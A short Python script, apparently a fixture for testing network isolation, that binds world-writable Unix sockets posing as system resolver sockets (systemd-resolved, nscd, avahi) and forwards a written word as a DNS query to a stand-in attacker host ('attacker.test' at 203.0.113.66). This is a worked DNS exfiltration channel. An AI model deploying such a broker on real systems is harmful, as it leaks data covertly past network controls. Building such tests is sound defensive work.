#!/usr/bin/python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""broker.py PATH…: stands in for a resolver's Unix sockets (systemd-resolved, nscd, avahi): what is written to one of the sockets is asked,
as a DNS question, of the attacker's server, by this process's user. broker.py --ask PATH WORD: says WORD to one."""
import os
import socket
import struct
import sys
import threading


def question(name):
    labels = b"".join(bytes([len(x)]) + x.encode() for x in name.split("."))
    return struct.pack("!HHHHHH", 7, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", 1, 1)


def serve(path):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind(path)
        os.chmod(path, 0o666)
        listener.listen()
        while True:
            client, _ = listener.accept()
            with client, socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
                word = client.recv(100).decode("ascii", "replace")
                if word != "secret":  # the C library asks nscd who is who
                    continue
                out.sendto(question(word + ".attacker.test"), ("203.0.113.66", 53))
                client.sendall(b"asked\n")


def main():
    if sys.argv[1] == "--ask":
        with socket.socket(socket.AF_UNIX) as s:
            s.settimeout(2)
            s.connect(sys.argv[2])
            s.sendall(sys.argv[3].encode())
            print(s.recv(100).decode())
        return
    for path in sys.argv[1:]:
        threading.Thread(target=serve, args=(path,)).start()


main()
